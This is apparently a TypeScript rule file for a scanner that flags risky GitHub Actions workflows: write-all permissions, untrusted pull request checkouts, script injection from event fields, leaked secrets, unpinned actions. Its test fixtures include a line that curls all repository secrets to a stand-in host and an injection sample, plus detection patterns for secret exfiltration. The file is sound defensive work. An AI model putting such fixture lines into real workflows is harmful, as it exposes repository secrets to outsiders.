import type { Check } from '../check.ts';
import type { Document } from '../leaf.ts';

const IN = ['workflow'] as const;
const job = (step: string, on = 'push', more = '') =>
  `on: ${on}\n${more}jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n`;
const PIPELINE = { resource: 'pipeline' } as const;
const runsOn = (event: string, { leaves }: Document) =>
  leaves.some(
    ({ path, value }) =>
      path === `on.${event}` ||
      path.startsWith(`on.${event}.`) ||
      (/^on(\[\])?$/.test(path) && value === event),
  );
/** What strangers can write into an event. */
const STRANGERS =
  /\$\{\{[^}]*github\.(head_ref|event\.(issue|pull_request|comment|review|review_comment|discussion|commits|head_commit|pages|workflow_run)\b[^}]*(title|body|ref|label|name|message|email|head_branch|page_name))[^}]*\}\}/;

/** Who may change what a pipeline does, and what it may do: GitHub's documentation on hardening for Actions. */
export const WORKFLOW_CHECKS: readonly Check[] = [
  {
    id: 'workflow.all_permissions',
    in: IN,
    at: /(^|\.)permissions$/,
    is: /^write-all$/,
    does: { ...PIPELINE, resource: 'permission' },
    why: 'Every step, also of third parties, may write everything in the repository.',
    safer: 'permissions: {contents: read}, and more for the one job that needs it',
    must: [job('run: npm test', 'push', 'permissions: write-all\n')],
    not: [job('run: npm test', 'push', 'permissions: read-all\n')],
  },
  {
    id: 'workflow.strangers_code',
    in: IN,
    at: /steps\[\]\.with\.(ref|repository)$/,
    is: /github\.(event\.pull_request\.(head|merge_commit)|head_ref)|refs\/pull\/|event\.workflow_run\.head/,
    test: (_, document) =>
      document.partial || runsOn('pull_request_target', document) || runsOn('workflow_run', document),
    does: { ...PIPELINE, resource: 'security', floor: 'high' },
    why: "A stranger's code is checked out where the repository's secrets and rights are.",
    safer: 'use pull_request, or do not check out the head',
    must: [
      job(
        `{uses: actions/checkout@v4, with: {ref: "\${{ github.event.pull_request.head.sha }}"}}`,
        'pull_request_target',
      ),
    ],
    not: [
      job(
        `{uses: actions/checkout@v4, with: {ref: "\${{ github.event.pull_request.head.sha }}"}}`,
        'pull_request',
      ),
    ],
  },
  {
    id: 'workflow.target_trigger',
    in: IN,
    at: /^on(\[\]|\.pull_request_target(\..*)?)?$/,
    test: ({ path, value }) => path.includes('pull_request_target') || value === 'pull_request_target',
    does: { ...PIPELINE, floor: 'medium' },
    why: 'It runs with secrets and rights for pull requests of strangers.',
    must: [job('run: echo hi', 'pull_request_target')],
    not: [job('run: echo hi', 'pull_request')],
  },
  {
    id: 'workflow.injection',
    in: IN,
    at: /(run|script)$/,
    is: STRANGERS,
    does: { ...PIPELINE, resource: 'security', floor: 'high' },
    why: 'The text of a stranger is put into the script before the shell reads it.',
    safer: 'hand it over in env and use "$NAME"',
    must: [job(`run: 'echo \${{ github.event.issue.title }}'`, 'issues')],
    not: [
      job(`run: 'echo \${{ github.event.pull_request.number }} \${{ github.sha }}'`),
      job('run: echo "$TITLE"'),
    ],
  },
  {
    id: 'workflow.prints_secret',
    in: IN,
    at: /run$/,
    is: /(echo|printf|cat|env|printenv|curl|wget|base64|tee)\b[^\n]*\$\{\{\s*(secrets\.\w+|toJSON\(secrets\))/i,
    test: ({ value }) =>
      !/(echo|printf)[^\n]*\|\s*(docker login|gh auth login|\S+ --password-stdin|gpg|base64 (-d|--decode)\s*>)|>\s*\S*(\.npmrc|\.env|kubeconfig|\.pem|\.json|id_\w+|GITHUB_ENV|key\S*)/.test(
        value,
      ),
    does: { ...PIPELINE, resource: 'secret', sensitive: true, floor: 'high' },
    why: 'A secret is printed or sent elsewhere; masking fails as soon as it is changed a little.',
    must: [
      job(`run: 'echo \${{ secrets.DEPLOY_KEY }} | base64'`),
      job(`run: 'curl -d \${{ toJSON(secrets) }} https://x.example.net'`),
    ],
    not: [
      job(`run: 'echo \${{ secrets.TOKEN }} | docker login -u me --password-stdin'`),
      job(`{run: npm publish, env: {NODE_AUTH_TOKEN: "\${{ secrets.NPM_TOKEN }}"}}`),
    ],
  },
  {
    id: 'workflow.all_secrets',
    in: IN,
    at: /(^|\.)secrets$/,
    is: /^inherit$/,
    test: (_, { leaves }) =>
      leaves.some(
        ({ path, value }) =>
          /jobs\.[^.]+\.uses$/.test(path) && !value.startsWith('./') && !/@[0-9a-f]{40}$/.test(value),
      ),
    does: { ...PIPELINE, resource: 'secret' },
    why: 'All secrets go to a workflow that its author can change.',
    must: ['on: push\njobs: {a: {uses: someone/flows/.github/workflows/x.yml@main, secrets: inherit}}'],
    not: ['on: push\njobs: {a: {uses: ./.github/workflows/x.yml, secrets: inherit}}'],
  },
  {
    id: 'workflow.unpinned_action',
    in: IN,
    at: /steps\[\]\.uses$/,
    is: /^(?!\.\/|docker:\/\/\S+@sha256:|actions\/|github\/|aws-actions\/|azure\/|google-github-actions\/|docker\/|hashicorp\/)[\w.-]+\/\S+@(?![0-9a-f]{40}$)(?!v?\d)\S+$/i,
    does: { ...PIPELINE, floor: 'medium' },
    why: "A branch of a third party's action can be changed at any time, and then runs here.",
    safer: 'name the commit',
    must: [job('uses: someone/deploy@main')],
    not: [
      job('uses: actions/checkout@v4'),
      job('uses: someone/deploy@3df4ab11eba7bda6032a0b82a6bb43b11571feac'),
      job('uses: someone/deploy@v2'),
    ],
  },
  {
    id: 'workflow.self_hosted',
    in: IN,
    at: /runs-on(\[\])?$/,
    is: /^self-hosted$/,
    test: (_, document) => runsOn('pull_request', document) || runsOn('pull_request_target', document),
    does: { ...PIPELINE, resource: 'security' },
    why: 'Code of pull requests runs on a machine of ours, and stays there.',
    must: ['on: pull_request\njobs: {a: {runs-on: self-hosted, steps: [{run: make}]}}'],
    not: ['on: push\njobs: {a: {runs-on: self-hosted, steps: [{run: make}]}}'],
  },
  {
    id: 'workflow.commands_from_outside',
    in: IN,
    at: /ACTIONS_ALLOW_UNSECURE_COMMANDS$/,
    is: /^true$/,
    does: { ...PIPELINE, resource: 'security' },
    why: 'What a step prints can set the environment of the next.',
    must: [job('run: make', 'push', 'env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}\n')],
    not: [job('run: make', 'push', 'env: {ACTIONS_STEP_DEBUG: true}\n')],
  },
  {
    id: 'workflow.production_job',
    in: IN,
    at: /jobs\.[^.]+\.environment(\.name)?$/,
    is: /^(prod|production|live)\b/i,
    does: { ...PIPELINE, operation: 'deploy', floor: 'medium' },
    why: 'A job of it works on production.',
    must: ['on: push\njobs: {a: {runs-on: ubuntu-latest, environment: production, steps: [{run: make}]}}'],
    not: ['on: push\njobs: {a: {runs-on: ubuntu-latest, environment: staging, steps: [{run: make}]}}'],
  },
  {
    id: 'workflow.gate_gone',
    in: IN,
    at: /(environment(\.name)?|permissions(\.\w+(-\w+)*)?|(^|\.)if|needs(\[\])?)$/,
    is: /^(prod\w*|production|read(-all)?|none|.*(refs\/heads\/|github\.ref|github\.repository|author_association|success\(\)).*|test|tests|review|approve|scan|security)$/,
    when: 'gone',
    test: (leaf, { leaves }) => !leaves.some(({ path, value }) => path === leaf.path && value === leaf.value),
    does: { ...PIPELINE, resource: 'security' },
    why: 'A gate of the pipeline, or a limit of its rights, is taken away.',
    must: [
      '--- a/.github/workflows/d.yml\n+++ b/.github/workflows/d.yml\n@@ -1,4 +1,3 @@\n   deploy:\n     runs-on: ubuntu-latest\n-    environment: production\n',
    ],
    not: [
      '--- a/.github/workflows/d.yml\n+++ b/.github/workflows/d.yml\n@@ -1,4 +1,4 @@\n   deploy:\n     runs-on: ubuntu-latest\n+    environment: production\n',
    ],
  },
];
